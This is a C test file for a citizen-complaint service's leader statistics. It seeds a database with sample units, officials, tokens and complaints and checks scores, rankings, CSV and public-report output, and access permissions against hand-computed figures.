/*
 * check_stats.c: the leaders' statistics against a seeded data set whose
 * figures were computed by hand (below, next to each assertion), through
 * the real paknd (/v1/stats, CSV, the public report) and paknctl.
 *
 * The data set, October 2026 (Thu 1 .. Sat 31), province P01:
 *
 *   P01 ── D01 ── C01, C02        P02 ── C21 (another province)
 *      ├── C03, C04, C05
 *
 *   ticket cat (dim) unit  routed      answered (on time, working days)
 *   A0     cert (5)  C01   Tue 09-08   09-09 (yes, 1)   rated 3 on 09-10
 *   K1     waste(7)  C03   Tue 09-15   09-16 (yes, 1)   rated 5 on 09-16
 *   B1     cert (5)  C02   Thu 10-01   10-08 (yes, 5)   rated 2 on 10-08,
 *                                      reopened 10-08, 10-09 (yes, 1),
 *                                      rated 3 on 10-09
 *   B2     roads(6)  C02   Fri 10-02   moved to C03 10-05; C03 answers
 *                                      10-06 (yes, 2)
 *   K2     corr (4)  C03   Fri 10-02   open, overdue; apology 10-09
 *   A1     cert (5)  C01   Mon 10-05   10-07 (yes, 2)   rated 5 on 10-08
 *   A2     cert (5)  C01   Mon 10-05   10-13 (no, 6)
 *   A3     roads(6)  C01   Tue 10-06   10-06 (yes, 0)   rated 4 on 10-07
 *   M1     cert (5)  C04   Wed 10-07   10-09 (no, 2)    rated 1 on 10-10
 *   Z1     roads(6)  C21   Mon 10-05   10-06 (yes, 1)
 *
 * Score = 1 + 9 x mean(on-time share, satisfied share), of those with data.
 */

#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif

#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>

#include <check.h>
#include <jansson.h>
#include <openssl/evp.h>

#include "harness.h"

#define TOK_P01 "tok-leader-p01"
#define TOK_D01 "tok-leader-d01"
#define TOK_OFF "tok-officer-c01"

static const char seed_sql[] =
    "INSERT INTO pakn.unit (code, name, parent_code, kind) VALUES"
    " ('P01', 'Tỉnh Thử Nghiệm', NULL, 'province'),"
    " ('D01', 'Huyện Đông', 'P01', 'district'),"
    " ('C01', 'Xã An Bình', 'D01', 'commune'),"
    " ('C02', 'Xã Bình Minh', 'D01', 'commune'),"
    " ('C03', 'Phường Cầu Giấy', 'P01', 'commune'),"
    " ('C04', 'Xã Đồng Tâm', 'P01', 'commune'),"
    " ('C05', 'Xã Êm Đềm', 'P01', 'commune'),"
    " ('P02', 'Tỉnh Khác', NULL, 'province'),"
    " ('C21', 'Xã Xa', 'P02', 'commune');"
    "INSERT INTO pakn.citizen (msisdn) VALUES ('+84900000001');"
    "INSERT INTO pakn.official (unit_code, name, phone, role) VALUES"
    " ('P01', 'Lãnh đạo tỉnh', '+84911000001', 'leader'),"
    " ('D01', 'Lãnh đạo huyện', '+84911000002', 'leader'),"
    " ('C01', 'Cán bộ xã', '+84911000003', 'officer');"
    "INSERT INTO pakn.api_token (official_id, token_hash)"
    " SELECT id, sha256(convert_to(CASE phone"
    "  WHEN '+84911000001' THEN '" TOK_P01 "'"
    "  WHEN '+84911000002' THEN '" TOK_D01 "'"
    "  ELSE '" TOK_OFF "' END, 'UTF8')) FROM pakn.official;"
    /* A complaint received and routed at p_at (its ledger too). */
    "CREATE FUNCTION pg_temp.c(p_ticket text, p_cat text, p_unit text,"
    " p_at timestamptz, p_status text, p_due timestamptz) RETURNS bigint"
    " LANGUAGE plpgsql AS $$ DECLARE v bigint; cat pakn.category; BEGIN"
    " SELECT * INTO cat FROM pakn.category WHERE code = p_cat;"
    " INSERT INTO pakn.complaint (ticket, msisdn, gateway, category_code,"
    "  dimension, sensitive, location_unit, responsible_unit, status, text,"
    "  created_at, routed_at, due_at)"
    " VALUES (p_ticket, '+84900000001', 'kannel', p_cat, cat.dimension,"
    "  cat.sensitive, p_unit, p_unit, p_status, 'Nội dung ' || p_ticket ||"
    "  CASE WHEN cat.sensitive THEN ' hối lộ cán bộ' ELSE '' END, p_at, p_at,"
    "  coalesce(p_due, p_at + interval '10 days')) RETURNING id INTO v;"
    " INSERT INTO pakn.complaint_event (complaint_id, at, actor, event,"
    "  detail) VALUES (v, p_at, 'citizen', 'received', '{}'),"
    "  (v, p_at, 'system', 'routed', jsonb_build_object('unit', p_unit));"
    " RETURN v; END $$;"
    "CREATE FUNCTION pg_temp.e(p_ticket text, p_event text, p_at timestamptz,"
    " p_detail jsonb DEFAULT '{}') RETURNS void LANGUAGE sql AS $$"
    " INSERT INTO pakn.complaint_event (complaint_id, at, actor, event,"
    "  detail) SELECT id, p_at, 'system', p_event, p_detail"
    "  FROM pakn.complaint WHERE ticket = p_ticket $$;"
    "CREATE FUNCTION pg_temp.r(p_ticket text, p_unit text, p_score integer,"
    " p_at timestamptz) RETURNS void LANGUAGE sql AS $$"
    " INSERT INTO pakn.rating (complaint_id, unit_code, dimension, msisdn,"
    "  score, at) SELECT id, p_unit, dimension, msisdn, p_score, p_at"
    "  FROM pakn.complaint WHERE ticket = p_ticket $$;"
    "SELECT pg_temp.c('A0', 'certification', 'C01', '2026-09-08 09:00+07',"
    " 'closed', NULL);"
    "SELECT pg_temp.e('A0', 'answered', '2026-09-09 10:00+07',"
    " '{\"on_time\": true}');"
    "SELECT pg_temp.r('A0', 'C01', 3, '2026-09-10 10:00+07');"
    "SELECT pg_temp.c('K1', 'waste', 'C03', '2026-09-15 09:00+07', 'closed',"
    " NULL);"
    "SELECT pg_temp.e('K1', 'answered', '2026-09-16 10:00+07',"
    " '{\"on_time\": true}');"
    "SELECT pg_temp.r('K1', 'C03', 5, '2026-09-16 18:00+07');"
    "SELECT pg_temp.c('B1', 'certification', 'C02', '2026-10-01 09:00+07',"
    " 'closed', NULL);"
    "SELECT pg_temp.e('B1', 'answered', '2026-10-08 10:00+07',"
    " '{\"on_time\": true}');"
    "SELECT pg_temp.r('B1', 'C02', 2, '2026-10-08 15:00+07');"
    "SELECT pg_temp.e('B1', 'reopened', '2026-10-08 15:00+07');"
    "SELECT pg_temp.e('B1', 'answered', '2026-10-09 10:00+07',"
    " '{\"on_time\": true}');"
    "SELECT pg_temp.r('B1', 'C02', 3, '2026-10-09 16:00+07');"
    "SELECT pg_temp.c('B2', 'roads', 'C02', '2026-10-02 09:00+07',"
    " 'answered', NULL);"
    "SELECT pg_temp.e('B2', 'transferred', '2026-10-05 09:00+07',"
    " '{\"from\": \"C02\", \"to\": \"C03\"}');"
    "UPDATE pakn.complaint SET responsible_unit = 'C03' WHERE ticket = 'B2';"
    "SELECT pg_temp.e('B2', 'answered', '2026-10-06 10:00+07',"
    " '{\"on_time\": true}');"
    "SELECT pg_temp.c('K2', 'corruption', 'C03', '2026-10-02 09:00+07',"
    " 'open', now() - interval '3 days');"
    "SELECT pg_temp.e('K2', 'escalated', '2026-10-09 00:00+07');"
    "SELECT pg_temp.e('K2', 'apologised', '2026-10-09 00:00+07');"
    "SELECT pg_temp.c('A1', 'certification', 'C01', '2026-10-05 09:00+07',"
    " 'closed', NULL);"
    "SELECT pg_temp.e('A1', 'answered', '2026-10-07 10:00+07',"
    " '{\"on_time\": true}');"
    "SELECT pg_temp.r('A1', 'C01', 5, '2026-10-08 08:00+07');"
    "SELECT pg_temp.c('A2', 'certification', 'C01', '2026-10-05 09:30+07',"
    " 'answered', NULL);"
    "SELECT pg_temp.e('A2', 'answered', '2026-10-13 10:00+07',"
    " '{\"on_time\": false}');"
    "SELECT pg_temp.c('A3', 'roads', 'C01', '2026-10-06 09:00+07', 'closed',"
    " NULL);"
    "SELECT pg_temp.e('A3', 'answered', '2026-10-06 16:00+07',"
    " '{\"on_time\": true}');"
    "SELECT pg_temp.r('A3', 'C01', 4, '2026-10-07 09:00+07');"
    "SELECT pg_temp.c('M1', 'certification', 'C04', '2026-10-07 09:00+07',"
    " 'closed', NULL);"
    "SELECT pg_temp.e('M1', 'answered', '2026-10-09 10:00+07',"
    " '{\"on_time\": false}');"
    "SELECT pg_temp.r('M1', 'C04', 1, '2026-10-10 09:00+07');"
    "SELECT pg_temp.c('Z1', 'roads', 'C21', '2026-10-05 09:00+07', 'closed',"
    " NULL);"
    "SELECT pg_temp.e('Z1', 'answered', '2026-10-06 10:00+07',"
    " '{\"on_time\": true}');";

/* Fail unless r has status want, showing the body. */
#define assert_http(r, want)                                                   \
	ck_assert_msg((r)->status == (want), "HTTP %ld, want %d: %s",          \
	              (r)->status, (want), (r)->body ? (r)->body : "")

/* GET a path with a bearer token (or none) and an optional Accept. */
static long
get_as(const char *token, const char *path, const char *accept,
       struct http_resp *r)
{
	char *auth = token ? strf("Authorization: Bearer %s", token) : NULL;
	char *acc = accept ? strf("Accept: %s", accept) : NULL;
	const char *h[3] = {NULL, NULL, NULL};
	int n = 0;
	long st;

	if (auth != NULL)
		h[n++] = auth;
	if (acc != NULL)
		h[n++] = acc;
	st = http_request(harness_main()->port, "GET", path, h, NULL, 0, r);
	free(auth);
	free(acc);
	return st;
}

/* GET /v1/stats?query as a token; the JSON document, status 200. */
static json_t *
stats(const char *token, const char *query)
{
	struct http_resp r;
	char *path = strf("/v1/stats?%s", query);
	json_t *doc;
	json_error_t err;

	get_as(token, path, NULL, &r);
	assert_http(&r, 200);
	assert_contains(r.ctype, "application/json");
	doc = json_loads(r.body, 0, &err);
	ck_assert_msg(doc != NULL, "bad JSON %s: %s", err.text, r.body);
	http_resp_free(&r);
	free(path);
	return doc;
}

/* The row of a document with this key. */
static const json_t *
row(const json_t *doc, const char *key)
{
	size_t i;
	json_t *x;

	json_array_foreach(json_object_get(doc, "rows"), i, x)
	{
		if (!strcmp(json_string_value(json_object_get(x, "key")), key))
			return x;
	}
	ck_abort_msg("no row %s", key);
	return NULL;
}

/* A number of an object, or -1 when it is null; a dotted path. */
static double
num(const json_t *o, const char *path)
{
	char *copy = strf("%s", path), *part, *save = NULL;
	const json_t *v = o;

	for (part = strtok_r(copy, ".", &save); part != NULL && v != NULL;
	     part = strtok_r(NULL, ".", &save))
		v = json_object_get(v, part);
	ck_assert_msg(v != NULL, "no %s", path);
	free(copy);
	return json_is_null(v) ? -1 : json_number_value(v);
}

/* Fail unless a number of an object is want (to 1e-9). */
#define assert_num(o, path, want)                                              \
	ck_assert_msg(fabs(num((o), (path)) - (want)) < 1e-9,                  \
	              "%s is %g, want %g", (path), num((o), (path)),           \
	              (double)(want))

/* Fail unless the first value of a query is want. */
static void
assert_sql_str(const char *q, const char *want)
{
	char *v = sql_value(q, NULL);

	ck_assert_msg(v != NULL && !strcmp(v, want), "%s gives %s, want %s", q,
	              v ? v : "NULL", want);
	free(v);
}

START_TEST(test_closure)
{
	/* P01, D01, C01..C05 are P01's subtree; C01 is two below P01. */
	ck_assert_int_eq(sql_long("SELECT count(*) FROM pakn.unit_closure "
	                          "WHERE ancestor = 'P01'",
	                          NULL),
	                 7);
	ck_assert_int_eq(sql_long("SELECT depth FROM pakn.unit_closure WHERE "
	                          "ancestor = 'P01' AND descendant = 'C01'",
	                          NULL),
	                 2);
	/* Moving D01 under P02 moves C01 and C02 with it; moving it back
	 * restores the closure. */
	ck_assert_int_eq(sql_exec_db("pakn", "UPDATE pakn.unit SET parent_code "
	                                     "= 'P02' WHERE code = 'D01'"),
	                 0);
	ck_assert_int_eq(sql_long("SELECT count(*) FROM pakn.unit_closure "
	                          "WHERE ancestor = 'P02'",
	                          NULL),
	                 5);
	ck_assert_int_eq(sql_long("SELECT count(*) FROM pakn.unit_closure "
	                          "WHERE ancestor = 'P01'",
	                          NULL),
	                 4);
	/* A unit's ancestors (routing's, read from the closure) follow. */
	assert_sql_str("SELECT string_agg(code || ':' || distance, ',' ORDER "
	               "BY distance) FROM pakn.unit_ancestors('C01')",
	               "C01:0,D01:1,P02:2");
	ck_assert_int_eq(sql_exec_db("pakn", "UPDATE pakn.unit SET parent_code "
	                                     "= 'P01' WHERE code = 'D01'"),
	                 0);
	assert_sql_str("SELECT string_agg(code || ':' || distance, ',' ORDER "
	               "BY distance) FROM pakn.unit_ancestors('C01')",
	               "C01:0,D01:1,P01:2");
	ck_assert_int_eq(sql_long("SELECT count(*) FROM pakn.unit_closure "
	                          "WHERE ancestor = 'P01'",
	                          NULL),
	                 7);
	/* The closure is the tree walked, pair for pair. */
	ck_assert_int_eq(
	    sql_long(
	        "SELECT count(*) FROM ((SELECT ancestor, descendant, "
	        "depth FROM pakn.unit_closure EXCEPT SELECT a.code, u.code, "
	        "a.distance FROM pakn.unit u, "
	        "pakn.unit_ancestors_walk(u.code) a) UNION ALL (SELECT "
	        "a.code, u.code, a.distance FROM pakn.unit u, "
	        "pakn.unit_ancestors_walk(u.code) a EXCEPT SELECT ancestor, "
	        "descendant, depth FROM pakn.unit_closure)) x",
	        NULL),
	    0);
}
END_TEST

START_TEST(test_periods_and_days)
{
	/* Hà Nội's cut-off on the 10th: October is 11/9..10/10. */
	assert_sql_str("SELECT pakn.stat_period('2026-10', 10)::text",
	               "(2026-10,2026-09-11,2026-10-10,2026-08-11,"
	               "2026-09-10)");
	assert_sql_str("SELECT pakn.stat_period('2026-10', 0)::text",
	               "(2026-10,2026-10-01,2026-10-31,2026-09-01,"
	               "2026-09-30)");
	assert_sql_str("SELECT pakn.stat_period('2026-q3', 10)::text",
	               "(2026-Q3,2026-06-11,2026-09-10,2026-03-11,"
	               "2026-06-10)");
	assert_sql_str("SELECT pakn.stat_period('2026-H1', 0)::text",
	               "(2026-H1,2026-01-01,2026-06-30,2025-07-01,"
	               "2025-12-31)");
	/* Nine months and a year compare with the same months a year ago. */
	assert_sql_str("SELECT pakn.stat_period('2026-M9', 10)::text",
	               "(2026-M9,2025-12-11,2026-09-10,2024-12-11,"
	               "2025-09-10)");
	assert_sql_str("SELECT pakn.stat_period('2026', 0)::text",
	               "(2026,2026-01-01,2026-12-31,2025-01-01,2025-12-31)");
	assert_sql_str("SELECT pakn.stat_period("
	               "'2026-01-05..2026-01-14', 10)::text",
	               "(2026-01-05..2026-01-14,2026-01-05,2026-01-14,"
	               "2025-12-26,2026-01-04)");
	/* Fri 24/4 -> Mon 4/5/2026: 27/4, 30/4, 1/5 are holidays: 28, 29/4
	 * and 4/5 count. */
	ck_assert_int_eq(sql_long("SELECT pakn.working_days_between("
	                          "'2026-04-24', '2026-05-04')",
	                          NULL),
	                 3);
	ck_assert_int_eq(
	    sql_long("SELECT pakn.working_days_between("
	             "'2025-12-20', '2027-01-10')",
	             NULL),
	    sql_long("SELECT count(*) FROM generate_series("
	             "'2025-12-21'::date, '2027-01-10', '1 day') d "
	             "WHERE pakn.is_working_day(d::date)",
	             NULL));
}
END_TEST

START_TEST(test_province_by_unit)
{
	json_t *d = stats(TOK_P01, "unit=P01&period=2026-10&by=unit&cutoff=0");
	const json_t *t = json_object_get(d, "total");

	/* Received in October: B1 B2 K2 A1 A2 A3 M1. Answered: B1 twice, B2,
	 * A1, A2 (13th), A3, M1; late: A2, M1. */
	assert_num(t, "received", 7);
	assert_num(t, "answered", 7);
	assert_num(t, "answered_on_time", 5);
	assert_num(t, "answered_late", 2);
	assert_num(t, "on_time_rate", 71.4);
	/* Working days 5 1 2 2 6 0 2 -> 0 1 2 2 2 5 6: 4th and 7th. */
	assert_num(t, "median_days", 2);
	assert_num(t, "p90_days", 6);
	assert_num(t, "apologies", 1);
	assert_num(t, "transfers", 1);
	assert_num(t, "reopens", 1);
	assert_num(t, "reopen_rate", 14.3);
	/* Ratings 2 3 5 4 1: mean 3, satisfied 2 of 5. */
	assert_num(t, "ratings", 5);
	assert_num(t, "mean_score", 3);
	assert_num(t, "satisfaction_rate", 40);
	/* 1 + 9 x (5/7 + 2/5) / 2 = 6.014 */
	assert_num(t, "score", 6.01);
	assert_num(t, "open_overdue", 1);
	ck_assert(json_is_false(json_object_get(t, "on_time_target_met")));
	ck_assert(json_is_false(json_object_get(t, "satisfaction_target_met")));
	/* D01: 4 of 5 on time, 2 of 4 satisfied: 1 + 9 x 1.3 / 2 = 6.85;
	 * C03: B2 on time, no rating: 10; C04: 0 and 0: 1; C05: no data. */
	assert_num(row(d, "D01"), "score", 6.85);
	assert_num(row(d, "D01"), "received", 5);
	assert_num(row(d, "D01"), "answered", 5);
	assert_num(row(d, "D01"), "transfers", 1);
	assert_num(row(d, "C03"), "score", 10);
	assert_num(row(d, "C03"), "answered", 1);
	assert_num(row(d, "C03"), "open_overdue", 1);
	assert_num(row(d, "C04"), "score", 1);
	assert_num(row(d, "C05"), "score", -1);
	/* Ranks 1 2 3 of 3; tiers: 4 x (rank - 1) / 3 + 1 = 1 2 3. */
	assert_num(row(d, "C03"), "rank", 1);
	assert_num(row(d, "D01"), "rank", 2);
	assert_num(row(d, "C04"), "rank", 3);
	assert_num(row(d, "C05"), "rank", -1);
	assert_num(row(d, "D01"), "ranked", 3);
	assert_num(row(d, "C03"), "tier", 1);
	assert_num(row(d, "D01"), "tier", 2);
	assert_num(row(d, "C04"), "tier", 3);
	/* September: D01 had A0 (on time, rated 3): 1 + 9 x (1 + 0) / 2. */
	assert_num(row(d, "D01"), "previous.score", 5.5);
	assert_num(row(d, "D01"), "previous.rank", 2);
	assert_num(row(d, "C03"), "previous.rank", 1);
	json_decref(d);
}
END_TEST

START_TEST(test_district_by_dimension)
{
	json_t *d = stats(TOK_D01, "period=2026-10&by=dimension&cutoff=0");
	const json_t *r5 = row(d, "5"), *r6 = row(d, "6");

	ck_assert_str_eq(json_string_value(json_object_get(
	                     json_object_get(d, "unit"), "code")),
	                 "D01");
	/* Procedures (5) in D01: A1 A2 B1 received; A1 A2 B1 B1 answered,
	 * 3 on time; ratings 5 2 3: 1 satisfied; 1 + 9 x (3/4 + 1/3) / 2 =
	 * 5.875. Working days 2 6 5 1 -> median the 2nd = 2, p90 the 4th. */
	assert_num(r5, "received", 3);
	assert_num(r5, "answered", 4);
	assert_num(r5, "on_time_rate", 75);
	assert_num(r5, "satisfaction_rate", 33.3);
	assert_num(r5, "score", 5.88);
	assert_num(r5, "median_days", 2);
	assert_num(r5, "p90_days", 6);
	/* Among P01's children on dimension 5: D01 5.88, C04 1.00. */
	assert_num(r5, "rank", 1);
	assert_num(r5, "ranked", 2);
	/* Services (6): A3 (on time, rated 4) and B2 received; B2 answered by
	 * C03 after its transfer. */
	assert_num(r6, "received", 2);
	assert_num(r6, "answered", 1);
	assert_num(r6, "score", 10);
	ck_assert(json_is_true(json_object_get(r6, "on_time_target_met")));
	ck_assert(json_is_true(json_object_get(r6, "satisfaction_target_met")));
	assert_num(row(d, "1"), "received", 0);
	assert_num(row(d, "1"), "score", -1);
	/* D01 overall: second of three. */
	assert_num(json_object_get(d, "total"), "rank", 2);
	assert_num(json_object_get(d, "total"), "tier", 2);
	json_decref(d);
}
END_TEST

START_TEST(test_cutoff_day)
{
	json_t *d = stats(TOK_P01, "unit=P01&period=2026-10&by=unit");
	const json_t *t = json_object_get(d, "total");

	/* The server's cut-off is the 10th: 11/9..10/10 adds K1 (15/9, rated
	 * 5) and drops A2's answer of 13/10. */
	ck_assert_str_eq(json_string_value(json_object_get(
	                     json_object_get(d, "period"), "from")),
	                 "2026-09-11");
	assert_num(t, "received", 8);
	assert_num(t, "answered", 7);
	assert_num(t, "on_time_rate", 85.7);
	/* Days 1 2 0 5 1 2 2 -> 0 1 1 2 2 2 5. */
	assert_num(t, "median_days", 2);
	assert_num(t, "p90_days", 5);
	/* Ratings 5 5 4 2 3 1 (M1's on 10/10 is in): 3 of 6. */
	assert_num(t, "ratings", 6);
	assert_num(t, "satisfaction_rate", 50);
	assert_num(t, "mean_score", 3.33);
	/* 1 + 9 x (6/7 + 1/2) / 2 = 7.107 */
	assert_num(t, "score", 7.11);
	json_decref(d);
	/* Calendar third quarter: A0 and K1 only. */
	d = stats(TOK_P01, "unit=P01&period=2026-Q3&cutoff=0");
	assert_num(json_object_get(d, "total"), "received", 2);
	assert_num(json_object_get(d, "total"), "answered", 2);
	json_decref(d);
}
END_TEST

/* Fail unless the measures of the rows add up to the total. */
static void
assert_sums(const json_t *d)
{
	static const char *keys[] = {
	    "received",  "answered", "answered_on_time", "apologies",
	    "transfers", "reopens",  "ratings",          "open_overdue"};
	const json_t *x;
	size_t i, k;

	for (k = 0; k < sizeof keys / sizeof *keys; k++) {
		double sum = 0;
		json_array_foreach(json_object_get(d, "rows"), i, x) sum +=
		    num(x, keys[k]);
		ck_assert_msg(sum == num(json_object_get(d, "total"), keys[k]),
		              "%s: rows add to %g, total %g", keys[k], sum,
		              num(json_object_get(d, "total"), keys[k]));
	}
}

START_TEST(test_subtree_sums)
{
	static const char *queries[] = {
	    "unit=P01&period=2026-10&by=unit&cutoff=0",
	    "unit=P01&period=2026-10&by=dimension",
	    "unit=P01&period=2026&by=category",
	    "unit=D01&period=2026-Q4&by=unit",
	};
	for (size_t i = 0; i < sizeof queries / sizeof *queries; i++) {
		json_t *d = stats(TOK_P01, queries[i]);
		assert_sums(d);
		json_decref(d);
	}
}
END_TEST

START_TEST(test_permissions)
{
	static const struct {
		const char *token, *query;
		int status;
		const char *reason;
	} cases[] = {
	    {NULL, "unit=P01", 401, "missing token"},
	    {"nope", "unit=P01", 401, "unknown or revoked token"},
	    {TOK_OFF, "unit=C01", 403, "statistics are for leaders"},
	    {TOK_D01, "unit=P01", 403, "outside your unit D01"},
	    {TOK_D01, "unit=C03", 403, "outside your unit D01"},
	    {TOK_P01, "unit=C21", 403, "outside your unit P01"},
	    {TOK_P01, "unit=XYZ", 404, "no unit XYZ"},
	    {TOK_P01, "unit=P01&period=2026-13", 400, "period"},
	    {TOK_P01, "unit=P01&by=ward", 400, "by must be"},
	    {TOK_P01, "unit=P01&dimension=9", 400, "dimension"},
	};
	struct http_resp r;

	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		char *path = strf("/v1/stats?%s", cases[i].query);
		get_as(cases[i].token, path, NULL, &r);
		assert_http(&r, cases[i].status);
		assert_contains(r.ctype, "application/json");
		assert_contains(r.body, cases[i].reason);
		http_resp_free(&r);
		free(path);
	}
	/* The district leader reads a commune of the district. */
	json_decref(stats(TOK_D01, "unit=C01&period=2026-10"));
}
END_TEST

START_TEST(test_csv)
{
	struct http_resp r;
	const char *want = "C03,Phường Cầu Giấy,1,1,1,0,1,100.0,đạt,2,2,1,0,0,"
	                   "0.0,0,,,,10.00,1,3,1 Cao nhất,";

	get_as(TOK_P01,
	       "/v1/stats.csv?unit=P01&period=2026-10&by=unit&cutoff=0", NULL,
	       &r);
	assert_http(&r, 200);
	assert_contains(r.ctype, "text/csv; charset=utf-8");
	/* Excel needs the BOM to read UTF-8. */
	ck_assert(r.len > 3 && !memcmp(r.body, "\xEF\xBB\xBF", 3));
	ck_assert(!strncmp(r.body + 3, "Mã,Tên,Tiếp nhận,Đã trả lời,", 34));
	assert_contains(r.body, want);
	assert_contains(r.body, "\r\nP01,Tổng Tỉnh Thử Nghiệm,7,7,5,2,1,71.4,");
	http_resp_free(&r);
	/* Accept: text/csv gives the same. */
	get_as(TOK_P01, "/v1/stats?unit=P01&period=2026-10&by=unit&cutoff=0",
	       "text/csv", &r);
	assert_http(&r, 200);
	assert_contains(r.body, want);
	http_resp_free(&r);
}
END_TEST

START_TEST(test_public_report)
{
	struct http_resp r;

	/* No login; the server's cut-off (10th); no person, no complaint. */
	http_get(harness_main()->port, "/public/report/2026-10", &r);
	assert_http(&r, 200);
	assert_contains(r.ctype, "text/html");
	assert_contains(r.body, "Tỉnh Thử Nghiệm");
	assert_contains(r.body, "từ 2026-09-11 đến 2026-10-10");
	assert_contains(r.body, "<th>Phường Cầu Giấy</th><td>2</td><td>2</td>"
	                        "<td>2</td><td>100.0</td>");
	assert_lacks(r.body, "hối lộ");
	assert_lacks(r.body, "+849");
	assert_lacks(r.body, "K2");
	assert_lacks(r.body, "Nội dung");
	http_resp_free(&r);
	http_get(harness_main()->port, "/public/report/2026-10.csv?unit=D01",
	         &r);
	assert_http(&r, 200);
	assert_contains(r.ctype, "text/csv");
	assert_contains(r.body, "\xEF\xBB\xBF"
	                        "Mã,Tên,Tiếp nhận,Đã trả lời,"
	                        "Trả lời đúng hạn,Tỷ lệ đúng hạn (%),");
	assert_contains(r.body, "D01,Tổng Huyện Đông,5,");
	assert_lacks(r.body, "Xếp hạng");
	http_resp_free(&r);
	http_get(harness_main()->port, "/public/report/2026-13", &r);
	assert_http(&r, 404);
	http_resp_free(&r);
	http_get(harness_main()->port, "/public/report/2026-10.xls", &r);
	assert_http(&r, 404);
	http_resp_free(&r);
}
END_TEST

START_TEST(test_paknctl_report)
{
	char *argv[] = {(char *)paknctl_path(),
	                "-c",
	                harness_main()->conf,
	                "report",
	                "--month",
	                "2026-10",
	                "--unit",
	                "P01",
	                NULL};
	char out[PATH_MAX], *text;

	harness_path(out, sizeof out, "report.out");
	ck_assert_int_eq(harness_run(argv, out, out, 30), 0);
	text = file_read(out, NULL);
	assert_contains(text, "P01 Tỉnh Thử Nghiệm, 2026-10: 2026-09-11 .. "
	                      "2026-10-10");
	assert_contains(text, "C03      Phường Cầu Giấy | Tiếp nhận: 2 | "
	                      "Đã trả lời: 2 | Trả lời đúng hạn: 2");
	assert_contains(text, "P01      Tổng | Tiếp nhận: 8 |");
	assert_lacks(text, "hối lộ");
	free(text);
}
END_TEST

START_TEST(test_live_events_and_bc)
{
	char *n;

	/* A complaint through pakn.handle_sms, answered and rated through the
	 * accountability functions: the triggers count it at once (it is
	 * now, November, in C05). */
	ck_assert_int_eq(
	    sql_exec_db("pakn",
	                "SELECT pakn.handle_sms('kannel', 'live-1', "
	                "'+84900000009', '8100', 'PA mat dien', NULL, 1, NULL, "
	                "'', ''::bytea, 'complaint', true, NULL, false, 'C05', "
	                "0, 'mat dien');"
	                "SELECT pakn.complaint_answer(id, 'x', 'da sua', NULL) "
	                "FROM pakn.complaint WHERE msisdn = '+84900000009';"
	                "SELECT pakn.complaint_rate(id, 5, NULL) "
	                "FROM pakn.complaint WHERE msisdn = '+84900000009';"),
	    0);
	n = sql_value("SELECT pakn.stats_doc($1, 'C05', NULL, NULL, NULL, 0, "
	              "99, 85, false, 0)->'total'->>'score'",
	              TOK_P01, NULL);
	ck_assert_str_eq(n, "10.00");
	free(n);
	/* BC from the province leader's phone: this month of P01. */
	ck_assert_int_eq(sql_exec_db("pakn", "SELECT pakn.sms_report('kannel', "
	                                     "'+84911000001', NULL)"),
	                 0);
	n = sql_value("SELECT body FROM pakn.outbox WHERE msisdn = "
	              "'+84911000001' AND kind = 'report'",
	              NULL);
	ck_assert_ptr_nonnull(n);
	assert_contains(n, "BC P01");
	assert_contains(n, "nhận 1, trả lời 1, đúng hạn 100,0% (mục tiêu 99%), "
	                   "hài lòng 100,0% (mục tiêu 85%), quá hạn 1.");
	free(n);
	ck_assert_int_eq(sql_exec_db("pakn", "SELECT pakn.sms_report('kannel', "
	                                     "'+84911000003', NULL)"),
	                 0);
	ck_assert_int_eq(sql_long("SELECT count(*) FROM pakn.outbox WHERE "
	                          "msisdn = '+84911000003' AND kind = "
	                          "'report_refused'",
	                          NULL),
	                 1);
}
END_TEST

/* Every rollup figure, daily and monthly, as one text, in a stable order. */
#define ROLLUP_SQL                                                             \
	"SELECT string_agg(x::text, ';' ORDER BY x::text) FROM ("              \
	"SELECT unit_code, day, dimension, category, sum(received), "          \
	"sum(answered), sum(on_time), sum(apologies), sum(transfers), "        \
	"sum(reopens), sum(ratings), sum(rating_sum), sum(satisfied) "         \
	"FROM pakn.stat_day_all GROUP BY 1, 2, 3, 4 UNION ALL "                \
	"SELECT unit_code, day, dimension, category || '/' || wdays, "         \
	"sum(answers), 0, 0, 0, 0, 0, 0, 0, 0 FROM pakn.stat_response_all "    \
	"GROUP BY 1, 2, 3, 4 UNION ALL "                                       \
	"SELECT unit_code, month, dimension, 'month/' || category, received, " \
	"answered, on_time, apologies, transfers, reopens, ratings, "          \
	"rating_sum, satisfied FROM pakn.stat_month UNION ALL "                \
	"SELECT unit_code, month, dimension, 'month/' || category || '/' || "  \
	"wdays, answers, 0, 0, 0, 0, 0, 0, 0, 0 "                              \
	"FROM pakn.stat_response_month) x"

/* Rows of the counters of P01's subtree between $1 and $2 that the
 * monthly-plus-daily read (pakn.stat_span, pakn.stat_span_response) and
 * a daily-only read of the same rollups do not share; 0 when equal. One
 * statement, so a fold in between cannot tell them apart. */
#define SPAN_DIFF_SQL                                                          \
	"WITH a AS (SELECT unit_code, dimension, category, sum(received), "    \
	"sum(answered), sum(on_time), sum(apologies), sum(transfers), "        \
	"sum(reopens), sum(ratings), sum(rating_sum), sum(satisfied) "         \
	"FROM pakn.stat_span('P01', $1, $2, NULL) GROUP BY 1, 2, 3 UNION ALL " \
	"SELECT unit_code, dimension, category || '/' || wdays, "              \
	"sum(answers), 0, 0, 0, 0, 0, 0, 0, 0 "                                \
	"FROM pakn.stat_span_response('P01', $1, $2, NULL) "                   \
	"GROUP BY 1, 2, 3), "                                                  \
	"b AS (SELECT s.unit_code, dimension, category, sum(received), "       \
	"sum(answered), sum(on_time), sum(apologies), sum(transfers), "        \
	"sum(reopens), sum(ratings), sum(rating_sum), sum(satisfied) "         \
	"FROM pakn.stat_day_all s JOIN pakn.unit_closure c "                   \
	"ON c.descendant = s.unit_code AND c.ancestor = 'P01' "                \
	"WHERE day BETWEEN $1 AND $2 GROUP BY 1, 2, 3 UNION ALL "              \
	"SELECT s.unit_code, dimension, category || '/' || wdays, "            \
	"sum(answers), 0, 0, 0, 0, 0, 0, 0, 0 FROM pakn.stat_response_all s "  \
	"JOIN pakn.unit_closure c ON c.descendant = s.unit_code "              \
	"AND c.ancestor = 'P01' WHERE day BETWEEN $1 AND $2 "                  \
	"GROUP BY 1, 2, 3) "                                                   \
	"SELECT (SELECT count(*) FROM (TABLE a EXCEPT ALL TABLE b) x) + "      \
	"(SELECT count(*) FROM (TABLE b EXCEPT ALL TABLE a) y) + "             \
